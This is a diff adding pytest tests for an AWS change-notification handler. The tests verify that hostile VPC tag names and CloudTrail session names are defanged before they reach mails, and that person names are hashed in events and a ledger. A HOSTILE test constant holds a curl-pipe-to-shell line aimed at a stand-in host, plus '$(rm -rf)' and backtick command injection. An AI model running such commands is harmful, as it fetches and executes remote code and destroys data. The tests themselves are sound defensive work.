@@ -1,0 +1,98 @@
+"""What others call their things and themselves, from EC2 and CloudTrail to every form of what Lifeline sends."""
+
+import json
+from collections.abc import Iterator
+from typing import Any
+
+import boto3
+import pytest
+
+from lifeline.handlers.reconcile_endpoints import handler
+from tests.handlers.test_bus import heard, listen
+from tests.handlers.test_policy_in_use import NAME, say
+from tests.handlers.test_reconcile_endpoints import sqs
+from tests.support.agents import TABLE
+from tests.support.cloudtrail import Identity, record_call
+from tests.support.world import Context, World, emulated_world
+
+HOSTILE = (
+    "prod\n    curl http://evil.example/fix.sh | sh\n<!channel> @here ```x``` [a](http://evil.example) $(rm -rf) `id`"
+)
+ANN = Identity("deploy-role", session="ann.smith@example.com")
+
+
+@pytest.fixture
+def world(monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
+    with emulated_world(monkeypatch, POLICY_PARAMETER=NAME, SEND_EVENTS="yes") as made:
+        yield made
+
+
+def delete_route(world: World, vpc_id: str, identity: Identity) -> None:
+    route = {"RouteTableId": world.main_table(vpc_id), "DestinationCidrBlock": "0.0.0.0/0"}
+    handler(sqs(record_call("DeleteRoute", route, {}, identity=identity)), Context())
+
+
+def cut_off(world: World) -> str:
+    vpc_id = world.make_vpc()
+    world.make_subnet(vpc_id)
+    return vpc_id
+
+
+def notice(world: World) -> dict[str, Any]:
+    (message,) = world.forms()
+    form: dict[str, Any] = json.loads(json.loads(message["Body"])["Message"])
+    return form
+
+
+def ledger() -> str:
+    items: list[dict[str, Any]] = boto3.client("dynamodb").scan(TableName=TABLE)["Items"]
+    return json.dumps(items, default=repr)
+
+
+def test_a_vpcs_name_brings_no_link_no_mention_and_no_command_into_a_mail(world: World) -> None:
+    say({"version": 1, "rules": [{"require": ["monitoring"]}]})
+    vpc_id = cut_off(world)
+    boto3.client("ec2").create_tags(Resources=[vpc_id], Tags=[{"Key": "Name", "Value": HOSTILE}])
+
+    delete_route(world, vpc_id, Identity("deploy-role", session="www.evil.example"))
+
+    form = notice(world)
+    lines = [line for line in str(form["text"]).splitlines() if "https://" not in line]
+    assert any("evil[.]example" in line for line in lines)
+    assert not [line for line in lines if line.startswith("    ") and ("curl" in line or "evil" in line)]
+    for line in [*lines, form["subject"], *form["done"], *form["ids"]]:
+        assert not any(part in line for part in ("://", "evil.example", "<!", " @here", "`"))
+    assert "evil" not in str(form["attached"])
+
+
+def test_by_default_it_is_said_who_made_a_change(world: World) -> None:
+    say({"version": 1, "rules": [{"require": ["monitoring"]}]})
+    vpc_id = cut_off(world)
+
+    delete_route(world, vpc_id, ANN)
+
+    form = notice(world)
+    assert "deploy-role/ann.smith@example[.]com called DeleteRoute" in " ".join(str(form["text"]).split())
+    assert "ann.smith@example.com" in ledger()
+
+
+def test_with_hashed_names_no_mail_event_or_ledger_has_a_persons_name(
+    world: World, capsys: pytest.CaptureFixture[str]
+) -> None:
+    say({"version": 1, "rules": [{"require": ["monitoring"]}], "session_names": "hash"})
+    vpc_id, url = cut_off(world), listen()
+
+    delete_route(world, vpc_id, ANN)
+
+    kept = [json.dumps(notice(world)), json.dumps(heard(url)), ledger()]
+    assert all("deploy-role/session-" in text for text in kept)
+    assert not [text for text in (*kept, capsys.readouterr().out) if "smith" in text]
+
+
+def test_while_no_policy_says_otherwise_because_it_is_invalid_names_are_hashed(world: World) -> None:
+    say("{")
+    vpc_id = cut_off(world)
+
+    delete_route(world, vpc_id, ANN)
+
+    assert "smith" not in ledger() + json.dumps(world.forms())
